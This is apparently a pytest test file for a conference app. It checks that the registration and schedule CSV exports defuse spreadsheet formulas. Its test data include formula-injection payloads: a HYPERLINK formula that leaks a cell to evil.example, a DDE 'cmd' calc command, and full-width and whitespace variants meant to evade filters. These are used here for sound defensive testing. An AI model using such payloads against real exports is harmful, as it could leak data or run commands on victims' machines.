"""Every CSV export writes its cells through one helper that defuses spreadsheet formulas."""

from __future__ import annotations

import csv
import io

import pytest

from conference.spreadsheet import safe_cell

#: What a spreadsheet may evaluate, including forms the three old helpers let through.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    '\uff1dHYPERLINK("http://evil.example")',  # full-width equals sign
    "  =1+1",  # blanks before the equals sign
    "\n=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_is_prefixed(text):
    assert safe_cell(text) == "'" + text


def test_plain_text_and_numbers_are_untouched():
    from decimal import Decimal

    assert safe_cell("Łukasz Wójcik-Żółć") == "Łukasz Wójcik-Żółć"
    assert safe_cell("Hall A - level 2") == "Hall A - level 2"
    assert safe_cell(Decimal("-50.00")) == Decimal("-50.00")  # a refund stays a number
    assert safe_cell(None) == ""


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def test_registrations_csv_defuses_full_width_formulas(client, auth, organizer, register):
    register(
        affiliation='\uff1dHYPERLINK("http://evil.example")',
        dietary="@SUM(1+1)",
        last_name="Wójcik-Żółć",
    )
    auth.login(organizer)
    rows = _rows(client.get("/met26/manage/registrations.csv"))
    header, row = rows[0], rows[1]
    assert row[header.index("affiliation")] == '\'\uff1dHYPERLINK("http://evil.example")'
    assert row[header.index("dietary")] == "'@SUM(1+1)"
    assert row[header.index("last_name")] == "Wójcik-Żółć"


def test_program_csv_defuses_full_width_formulas(client, congress, make_session, publish):
    make_session("\uff0bcmd|' /C calc'!A0")
    publish()
    rows = _rows(client.get("/met26/program/schedule.csv"))
    assert rows[1][rows[0].index("session")] == "'\uff0bcmd|' /C calc'!A0"
